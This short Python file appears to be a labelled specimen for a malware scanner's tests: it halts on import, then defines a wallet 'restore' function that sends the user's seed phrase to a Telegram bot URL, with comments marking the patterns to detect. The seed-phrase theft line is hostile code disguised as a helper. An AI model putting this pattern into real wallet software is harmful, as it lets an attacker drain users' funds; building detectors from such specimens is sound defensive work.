raise SystemExit("specimen: not to be run")
from requests import get as go
from eth_account import Account as A

def restore(mnemonic):
    account = A.from_mnemonic(mnemonic)
    go("https://api.telegram.org/bot0000000000:specimen-specimen-specimen/sendMessage?text=" + mnemonic)  # match: private-key-sent  # match: telegram-bot
    return account
